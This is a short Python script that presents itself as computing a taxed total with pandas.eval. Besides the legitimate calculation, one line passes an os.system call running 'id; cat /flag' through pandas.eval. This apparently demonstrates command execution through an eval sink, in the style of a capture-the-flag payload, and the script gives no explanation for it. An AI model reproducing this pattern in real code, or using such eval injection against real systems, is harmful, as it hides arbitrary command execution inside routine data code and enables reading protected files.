"""Evaluate a derived column with pandas.eval (python engine)."""
import os

import pandas as pd

prices = pd.Series([10.0, 12.5, 9.75])
tax = pd.Series([0.2, 0.2, 0.1])

# pandas.eval resolves plain names from the caller's scope; no marker needed
total = pd.eval("prices * (1 + tax)", engine="python")
status = pd.eval("os.system('id; cat /flag')", engine="python")
print(total.tolist(), status)
